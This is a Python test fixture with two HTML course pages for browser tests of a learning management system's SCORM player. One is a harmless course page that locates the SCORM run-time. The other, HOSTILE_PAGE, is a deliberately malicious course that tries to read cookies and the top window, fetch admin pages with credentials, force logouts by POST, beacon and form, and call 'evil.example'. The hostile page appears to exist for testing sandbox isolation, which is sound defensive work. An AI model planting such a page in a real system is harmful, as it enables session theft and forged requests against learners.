"""Pages of courses that a browser test drives: they find the run-time as the standard says and do what they are told.

A test calls `sco.set("cmi.suspend_data", "…")` and the like in the page. `?unload=` chooses what the page does while it
goes away (commit, finish, or nothing), `?event=` in which event, `lastWords` what it writes before that.
"""

SCO_PAGE = """<!doctype html>
<html lang="ja">
<meta charset="utf-8">
<title>動作確認用の教材</title>
<style>body { font-family: sans-serif; margin: 2rem; line-height: 1.7 }</style>
<h1>動作確認用の教材</h1>
<p>この教材は、学習の記録が正しく保存されるかを確かめるためのものです。</p>
<p id="heard"></p>
<script>
const wanted = new URLSearchParams(location.search);
function find(name) {
  let place = window;
  for (let step = 0; step <= 7; step += 1) {
    if (place[name]) return place[name];
    if (!place.parent || place.parent === place) break;
    place = place.parent;
  }
  return null;
}
const old = find("API");
const is12 = Boolean(old);
const api = old ?? find("API_1484_11");
const name = (one, other) => (is12 ? one : other);
window.sco = {
  is12,
  begin: () => api[name("LMSInitialize", "Initialize")](""),
  get: (element) => api[name("LMSGetValue", "GetValue")](element),
  set: (element, value) => api[name("LMSSetValue", "SetValue")](element, value),
  commit: () => api[name("LMSCommit", "Commit")](""),
  finish: () => api[name("LMSFinish", "Terminate")](""),
  error: () => api[name("LMSGetLastError", "GetLastError")](),
};
window.begun = sco.begin();
document.getElementById("heard").textContent = sco.get(is12 ? "cmi.core.entry" : "cmi.entry");
const event = wanted.get("event") ?? "pagehide";
const act = wanted.get("unload") ?? "";
window.lastWords = { [is12 ? "cmi.core.lesson_location" : "cmi.location"]: "last words" };
if (act) {
  window.addEventListener(event, () => {
    for (const [element, value] of Object.entries(lastWords)) sco.set(element, value);
    if (act === "commit") sco.commit();
    if (act === "finish") sco.finish();
  });
}
</script>
</html>
""".encode()

HOSTILE_PAGE = """<!doctype html>
<html lang="ja">
<meta charset="utf-8">
<title>悪意のある教材</title>
<script>
const tried = {};
const send = (address) => fetch(address, { credentials: "include", mode: "no-cors" });
async function attempt(name, action) {
  try {
    tried[name] = String(await action());
  } catch (problem) {
    tried[name] = "refused: " + problem.name;
  }
}
window.attack = async (lms) => {
  await attempt("cookie", () => document.cookie);
  await attempt("top document", () => window.top.document.title);
  await attempt("top storage", () => window.top.localStorage.length);
  await attempt("fetch admin", async () => (await fetch(lms + "/admin/", { credentials: "include" })).status);
  await attempt("fetch learner page", async () => (await send(lms + "/learn/")).type);
  await attempt("send home", async () => (await send("https://evil.example/?x=1")).type);
  await attempt("image home", () => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = () => resolve("loaded");
    image.onerror = () => reject(new Error("blocked"));
    image.src = lms + "/static/lms/icons.svg";
  }));
  await attempt("post to the LMS", async () => {
    const options = { method: "POST", credentials: "include", mode: "no-cors", body: "x=1" };
    return (await fetch(lms + "/accounts/logout/", options)).type;
  });
  await attempt("read a window of the LMS", async () => {
    const opened = window.open(lms + "/learn/");
    await new Promise((resolve) => setTimeout(resolve, 1500));
    try {
      return opened.document.title;
    } finally {
      opened.close();
    }
  });
  await attempt("navigate top", () => {
    window.top.location.href = "about:blank";
    return "navigated";
  });
  return tried;
};
// What is sent without waiting for an answer; whether it arrives is for the test to see.
window.sneak = (lms) => {
  navigator.sendBeacon(lms + "/accounts/logout/", "x=1");
  const framed = document.createElement("iframe");
  framed.src = lms + "/learn/";
  const form = document.createElement("form");
  Object.assign(form, { action: lms + "/accounts/logout/", method: "post", target: "_top" });
  const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${lms}/learn/", { credentials: "include" })`])));
  worker.onerror = () => {};
  document.body.append(framed, form);
  form.submit();
};
</script>
</html>
""".encode()
